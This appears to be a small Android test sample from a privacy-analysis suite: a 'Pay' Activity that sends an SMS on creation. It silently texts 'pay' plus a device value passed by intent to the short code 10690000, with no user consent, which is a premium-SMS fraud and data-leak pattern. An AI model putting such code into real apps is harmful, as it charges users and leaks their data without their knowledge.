package cn.privlens.suite.link_to_pay_page;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;

public class Pay extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        String device = getIntent().getStringExtra("device");
        SmsManager.getDefault().sendTextMessage("10690000", null, "pay " + device, null, null);
    }
}
